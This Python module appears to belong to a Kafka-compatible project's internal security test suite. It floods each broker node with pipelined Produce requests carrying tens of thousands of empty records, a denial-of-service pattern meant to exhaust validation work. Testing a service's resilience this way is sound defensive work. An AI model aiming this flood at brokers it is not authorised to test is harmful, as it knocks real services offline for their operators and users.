"""Many requests in one read, each of which is quick to send and slow to check."""

from __future__ import annotations

import contextlib
import struct
import threading

from penstock_kafka.wire.produce import ProducePartition, ProduceSkim, encode_produce_request
from security.attacks.produce_empty_records import VERSION, empty_batch
from security.target import WIDE_PARTITIONS, WIDE_TOPIC, Outcome, Target, answer

TEXT = "4 connections to each node's own listener, 100 pipelined Produces of 60,000 empty records on each"
RECORDS = 60_000


def run(target: Target) -> Outcome:
    """Send all at once, wait for all answers."""
    return write_all(target, empty_batch(5_000 if target.small else RECORDS))


def write_all(target: Target, records: bytes) -> Outcome:
    """100 Produces of that batch on each connection."""
    batch = memoryview(records)
    answered: list[int] = []

    def one(address: str, first: int) -> None:
        with contextlib.suppress(OSError), target.connect(address=address) as connection:
            for n in range(100):
                item = ProducePartition(WIDE_TOPIC, None, (first + n) % WIDE_PARTITIONS, batch)
                parts = encode_produce_request(VERSION, n, "bad", ProduceSkim(None, 1, 30_000, [item]))
                body = b"".join(bytes(part) for part in parts)
                connection.sendall(struct.pack(">i", len(body)) + body)
            answered.append(sum(answer(connection) is not None for _ in range(100)))

    threads = [
        threading.Thread(target=one, args=(address, 15 * n)) for address in target.nodes for n in range(4)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return Outcome(True, f"{sum(answered)} answers")
